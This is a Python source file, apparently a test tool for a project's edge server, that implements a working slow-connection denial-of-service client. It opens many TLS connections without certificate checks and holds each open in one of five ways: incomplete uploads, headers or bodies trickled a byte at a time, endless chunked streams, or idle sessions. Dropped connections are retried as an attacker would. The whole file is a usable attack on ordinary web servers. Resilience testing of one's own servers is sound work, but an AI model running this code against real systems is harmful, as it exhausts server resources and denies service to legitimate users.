"""A client that means no good: many connections, each held open in one of the ways that cost a server most.

It runs as a program, `python -m tests.edge.attack WAY ADDRESS PORT DOMAIN CONNECTIONS SECONDS`, so that it can be put on another
machine, and needs nothing but Python. What is not accepted or is closed is tried again, as an attacker would.
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import json
import ssl
import sys
import time
from collections.abc import Awaitable, Callable

BODY = 2 * 1024 * 1024
# From the last try to the next, of one connection.
AGAIN_SECONDS = 10.0

FILLING = memoryview(b"x" * BODY)
HEADERS = memoryview(b"X-A: b\r\n" * 10_000)

# One for all: each would read the machine's CAs anew.
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE

counts: collections.Counter[str] = collections.Counter()


async def held_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, domain: str) -> None:
    """A PUT of 2 MB that lacks its last byte."""
    writer.write(_head("PUT", domain, f"Content-Length: {BODY}\r\n"))
    await _until_answered(reader, _sent(writer, FILLING[1:], 1 << 16, 0))


async def slow_headers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, domain: str) -> None:
    """As many headers as are taken, then a byte a second and never an end."""
    writer.write(_head("GET", domain, "X-Filling: " + "x" * 30_000 + "\r\n")[:-2])
    await _until_answered(reader, _sent(writer, HEADERS, 1, 1))


async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, domain: str) -> None:
    """A sign-in whose body comes by ten bytes a second; it is none that an app refuses for its size."""
    writer.write(_head("POST", domain, "Content-Length: 900000\r\n"))
    await _until_answered(reader, _sent(writer, FILLING, 10, 1))


async def stream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, domain: str) -> None:
    """An upload without an end, as fast as it is taken, whose answer nobody reads."""
    writer.write(_head("PUT", domain, "Transfer-Encoding: chunked\r\n"))
    chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"
    # Without keeping this machine busy for ever.
    while not writer.transport.is_closing():
        writer.write(chunk)
        await writer.drain()
        await asyncio.sleep(1)


async def idle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, domain: str) -> None:
    """A TLS session, and not a word."""
    await reader.read(1)


WAYS: dict[str, Callable[[asyncio.StreamReader, asyncio.StreamWriter, str], Awaitable[None]]] = {
    "held-body": held_body,
    "slow-headers": slow_headers,
    "slow-body": slow_body,
    "stream": stream,
    "idle": idle,
}


def _head(method: str, domain: str, more: str) -> bytes:
    path = "/api/v1/sessions" if method == "POST" else "/attack"
    return f"{method} {path} HTTP/1.1\r\nHost: {domain}\r\nContent-Type: application/json\r\n{more}\r\n".encode()


async def _sent(writer: asyncio.StreamWriter, data: memoryview, each: int, pause: float) -> None:
    for start in range(0, len(data), each):
        writer.write(data[start : start + each])
        await writer.drain()
        await asyncio.sleep(pause)
    await asyncio.Event().wait()


async def _until_answered(reader: asyncio.StreamReader, sending: Awaitable[None]) -> None:
    """Send until an answer comes, which is counted."""
    task = asyncio.ensure_future(sending)
    try:
        first = await reader.readline()
        counts[f"answered {first.split()[1].decode()}" if len(first.split()) > 1 else "closed"] += 1
    finally:
        task.cancel()


async def _one(way: str, address: str, port: int, domain: str) -> None:
    while True:
        writer = None
        try:
            async with asyncio.timeout(30):
                reader, writer = await asyncio.open_connection(address, port, ssl=TLS, server_hostname=domain)
            counts["connected"] += 1
            counts["open"] += 1
            counts["open at most"] = max(counts["open at most"], counts["open"])
            try:
                await WAYS[way](reader, writer, domain)
            finally:
                counts["open"] -= 1
        except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError):
            counts["refused"] += writer is None
        finally:
            if writer is not None:
                writer.transport.abort()
        await asyncio.sleep(AGAIN_SECONDS)


async def _attack(way: str, address: str, port: int, domain: str, connections: int, seconds: float) -> None:
    tasks = []
    deadline = time.monotonic() + seconds
    for _ in range(connections):
        tasks.append(asyncio.ensure_future(_one(way, address, port, domain)))
        await asyncio.sleep(0.002)
    await asyncio.sleep(max(0.0, deadline - time.monotonic()))
    held = counts["open"]
    for task in tasks:
        task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps({**counts, "open": held}))


if __name__ == "__main__":
    _way, _address, _port, _domain, _connections, _seconds = sys.argv[1:]
    asyncio.run(_attack(_way, _address, int(_port), _domain, int(_connections), float(_seconds)))
